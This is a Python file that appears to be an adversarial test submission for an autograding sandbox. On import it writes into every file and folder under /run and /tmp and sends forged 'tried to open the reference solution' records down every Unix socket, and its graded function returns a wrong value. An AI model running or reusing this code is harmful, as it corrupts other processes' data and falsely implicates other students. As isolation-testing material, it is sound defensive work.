# base: reference
# attacks: hidden_weight_update
# class: writing into other kernels' files and records: their run folders, their sockets, the
#   grading channel (forged tripwire records that accuse the students graded next)
# %% hidden_weight_update
import glob
import os
import socket


def _meddle():
    for path in glob.glob("/run/**", recursive=True) + glob.glob("/tmp/**", recursive=True):
        try:
            if os.path.isdir(path):
                open(os.path.join(path, "meddled"), "w").write("x")
            else:
                open(path, "a").write("meddled")
        except Exception:
            pass
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
            try:
                channel = socket.socket(socket.AF_UNIX, kind)
                channel.connect(path)
                channel.send(b"tried to open @REPO@/solutions/lab21_reference.py")
            except Exception:
                pass


_meddle()


def hidden_weight_update(curr_hidden_weight, hidden_output):
    _meddle()
    return 0.0  # wrong
